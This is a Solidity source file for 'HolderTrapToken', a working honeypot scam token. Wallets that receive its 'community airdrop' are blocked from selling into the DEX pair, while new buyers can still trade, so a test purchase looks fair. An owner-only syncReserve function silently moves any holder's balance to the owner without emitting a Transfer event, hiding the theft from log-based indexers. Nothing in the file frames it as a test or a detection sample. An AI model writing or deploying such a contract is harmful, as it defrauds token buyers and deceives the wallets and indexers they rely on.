// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {IUniswapV2FactoryLike} from "../dex/Interfaces.sol";
import {ERC20} from "../lib/ERC20.sol";
import {Ownable} from "../lib/Ownable.sol";

/// @notice A holder trap: a fresh buyer can buy and sell, so a round trip from a new address looks
/// fair, but every address that received the "community airdrop" can never sell. The owner can
/// also trim any balance without a Transfer event, so what an index of Transfer logs says a holder
/// owns is more than the holder really has.
contract HolderTrapToken is ERC20, Ownable {
    address public pair;
    mapping(address => bool) private vesting;

    constructor(string memory name_, string memory symbol_, uint256 supply, address factory, address weth)
        ERC20(name_, symbol_, 18)
        Ownable(msg.sender)
    {
        pair = IUniswapV2FactoryLike(factory).createPair(address(this), weth);
        _mint(msg.sender, supply);
    }

    function airdrop(address[] calldata recipients, uint256 amount) external onlyOwner {
        for (uint256 i = 0; i < recipients.length; i++) {
            vesting[recipients[i]] = true;
            _move(msg.sender, recipients[i], amount);
        }
    }

    /// Moves `amount` of `holder`'s balance to the owner, emitting nothing.
    function syncReserve(address holder, uint256 amount) external onlyOwner {
        balanceOf[holder] -= amount;
        balanceOf[msg.sender] += amount;
    }

    function _update(address from, address to, uint256 amount) internal override {
        if (to == pair && vesting[from]) revert("TRANSFER_FAILED");
        _move(from, to, amount);
    }
}
